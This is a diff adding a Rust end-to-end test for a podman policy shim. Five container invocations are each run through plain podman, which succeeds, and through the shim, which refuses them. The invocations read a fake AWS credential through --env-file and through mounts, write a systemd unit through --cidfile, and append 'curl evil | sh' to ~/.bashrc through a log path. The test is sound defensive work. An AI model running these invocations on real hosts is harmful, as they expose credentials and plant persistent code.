@@ -1,0 +1,236 @@
+//! Real podman proof of the host-file and host-path classes: for each, the same argv run by
+//! plain podman (the control) really reads a credential or writes a file that runs code on the
+//! host, and run through the shim it is refused with exit 125 — the file is never created,
+//! changed or read. A control that stops doing the dangerous thing fails the test, so the proof
+//! cannot go stale.
+//!
+//! Rootful podman, with the machine facts `.ci/podman-setup.sh` records. Skips loudly without
+//! podman or the fixture image; `NANOCLAW_SHIM_REQUIRE_PODMAN=1` turns a skip into a failure.
+
+use std::os::unix::fs::{PermissionsExt, symlink};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+
+const IMAGE: &str = "localhost/nanoclaw-shim-fixture:latest";
+const ENV_FILE: &str = "/etc/nanoclaw-shim-ci/env";
+const MARKER: &str = "AKIA-SHIM-E2E-MARKER-7f3a";
+
+fn containers_conf() -> Option<String> {
+    std::fs::read_to_string(ENV_FILE).ok()?.lines().find_map(|l| {
+        l.strip_prefix("CONTAINERS_CONF=")
+            .map(|v| v.trim().to_string())
+            .filter(|v| !v.is_empty())
+    })
+}
+
+fn podman_ready() -> Result<PathBuf, String> {
+    let podman = ["/usr/bin/podman", "/usr/local/bin/podman"]
+        .iter()
+        .map(PathBuf::from)
+        .find(|p| p.exists())
+        .ok_or("podman is not installed")?;
+    let mut c = Command::new(&podman);
+    c.args(["image", "exists", IMAGE]);
+    if let Some(cc) = containers_conf() {
+        c.env("CONTAINERS_CONF", cc);
+    }
+    match c.status() {
+        Ok(s) if s.success() => Ok(podman),
+        _ => Err(format!(
+            "the fixture image {IMAGE} is missing (fixtures/image/build.sh)"
+        )),
+    }
+}
+
+/// A home directory with a credential, a systemd user folder and a shell start-up file; the
+/// shim installed as `docker` in front of the real podman.
+struct World {
+    dir: tempfile::TempDir,
+    podman: PathBuf,
+}
+
+impl World {
+    fn new(podman: PathBuf) -> World {
+        let dir = tempfile::tempdir().unwrap();
+        let home = dir.path().join("home");
+        std::fs::create_dir_all(home.join(".aws")).unwrap();
+        std::fs::create_dir_all(home.join(".config/systemd/user")).unwrap();
+        std::fs::write(
+            home.join(".aws/credentials"),
+            format!("AWS_SECRET_ACCESS_KEY={MARKER}\n"),
+        )
+        .unwrap();
+        std::fs::write(home.join(".bashrc"), "# untouched\n").unwrap();
+        let bin = dir.path().join("bin");
+        std::fs::create_dir(&bin).unwrap();
+        symlink(env!("CARGO_BIN_EXE_nanoclaw-shim"), bin.join("docker")).unwrap();
+        let policy = dir.path().join("policy.toml");
+        std::fs::copy(
+            Path::new(env!("CARGO_MANIFEST_DIR")).join("policy/default.toml"),
+            &policy,
+        )
+        .unwrap();
+        std::fs::set_permissions(&policy, std::fs::Permissions::from_mode(0o644)).unwrap();
+        World { dir, podman }
+    }
+
+    fn home(&self) -> PathBuf {
+        self.dir.path().join("home")
+    }
+
+    fn run(&self, program: &Path, args: &[String]) -> Output {
+        let mut c = Command::new(program);
+        c.env_clear()
+            .env(
+                "PATH",
+                format!(
+                    "{}:/usr/sbin:/usr/bin:/sbin:/bin",
+                    self.dir.path().join("bin").display()
+                ),
+            )
+            .env("HOME", self.home())
+            .env("NANOCLAW_SHIM_POLICY", self.dir.path().join("policy.toml"))
+            .current_dir(self.dir.path())
+            .args(args)
+            .stdin(Stdio::null());
+        if let Some(cc) = containers_conf() {
+            c.env("CONTAINERS_CONF", cc);
+        }
+        c.output().unwrap()
+    }
+
+    fn control(&self, args: &[String]) -> Output {
+        self.run(&self.podman.clone(), args)
+    }
+
+    fn shim(&self, args: &[String]) -> Output {
+        self.run(&self.dir.path().join("bin/docker"), args)
+    }
+}
+
+fn words(w: &World, s: &[&str]) -> Vec<String> {
+    let home = w.home().display().to_string();
+    s.iter().map(|t| t.replace('~', &home)).collect()
+}
+
+fn text(o: &Output) -> String {
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    )
+}
+
+fn refused(o: &Output, rule: &str) {
+    assert_eq!(o.status.code(), Some(125), "{}", text(o));
+    assert!(o.stdout.is_empty(), "stdout before exec: {}", text(o));
+    assert!(String::from_utf8_lossy(&o.stderr).contains(rule), "{}", text(o));
+    assert!(!text(o).contains(MARKER), "the credential leaked: {}", text(o));
+}
+
+#[test]
+fn host_files_and_paths_are_never_touched() {
+    let podman = match podman_ready() {
+        Ok(p) => p,
+        Err(why) => {
+            assert!(
+                std::env::var_os("NANOCLAW_SHIM_REQUIRE_PODMAN").is_none(),
+                "real podman required: {why}"
+            );
+            eprintln!("\n==== SKIPPED e2e_host_files: {why} ====\n");
+            return;
+        }
+    };
+    let w = World::new(podman);
+    let sh = ["--entrypoint", "/bin/sh", IMAGE, "-c"];
+
+    // 1. A cid file written into the systemd user folder: a unit file the host would load.
+    let unit = w.home().join(".config/systemd/user/agent.service");
+    let mut a = words(
+        &w,
+        &["run", "--rm", "--cidfile", "~/.config/systemd/user/agent.service"],
+    );
+    a.extend(words(&w, &sh));
+    a.push("true".into());
+    let c = w.control(&a);
+    assert!(
+        c.status.success() && unit.exists(),
+        "control did not write the file: {}",
+        text(&c)
+    );
+    std::fs::remove_file(&unit).unwrap();
+    refused(&w.shim(&a), "deny.host-file");
+    assert!(!unit.exists(), "the shim let podman write {}", unit.display());
+
+    // 2. An env file that is a credential store: its secret would be the agent's environment.
+    let mut a = words(&w, &["run", "--rm", "--env-file", "~/.aws/credentials"]);
+    a.extend(words(&w, &sh));
+    a.push("env".into());
+    let c = w.control(&a);
+    assert!(
+        String::from_utf8_lossy(&c.stdout).contains(MARKER),
+        "control did not read it: {}",
+        text(&c)
+    );
+    refused(&w.shim(&a), "deny.host-file");
+
+    // 3. A log path on a shell start-up file: the container's output appended to ~/.bashrc.
+    let mut a = words(
+        &w,
+        &[
+            "run",
+            "--rm",
+            "--log-driver",
+            "k8s-file",
+            "--log-opt",
+            "path=~/.bashrc",
+        ],
+    );
+    a.extend(words(&w, &sh));
+    a.push("echo 'curl evil | sh'".into());
+    let c = w.control(&a);
+    let rc = std::fs::read_to_string(w.home().join(".bashrc")).unwrap();
+    assert!(
+        c.status.success() && rc.contains("curl evil"),
+        "control did not write: {}",
+        text(&c)
+    );
+    std::fs::write(w.home().join(".bashrc"), "# untouched\n").unwrap();
+    refused(&w.shim(&a), "deny.host-file");
+    assert_eq!(
+        std::fs::read_to_string(w.home().join(".bashrc")).unwrap(),
+        "# untouched\n"
+    );
+
+    // 4. A read-only mount of a credential folder.
+    let mut a = words(&w, &["run", "--rm", "-v", "~/.aws:/a:ro"]);
+    a.extend(words(&w, &sh));
+    a.push("cat /a/credentials".into());
+    let c = w.control(&a);
+    assert!(
+        String::from_utf8_lossy(&c.stdout).contains(MARKER),
+        "control: {}",
+        text(&c)
+    );
+    refused(&w.shim(&a), "deny.credentials");
+
+    // 5. An inline volume that binds a host directory (no -v, no type=bind in sight).
+    let mut a = words(
+        &w,
+        &[
+            "run",
+            "--rm",
+            "--mount",
+            "type=volume,dst=/x,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=~/.aws",
+        ],
+    );
+    a.extend(words(&w, &sh));
+    a.push("cat /x/credentials".into());
+    let c = w.control(&a);
+    assert!(
+        String::from_utf8_lossy(&c.stdout).contains(MARKER),
+        "control: {}",
+        text(&c)
+    );
+    refused(&w.shim(&a), "deny.credentials");
+}
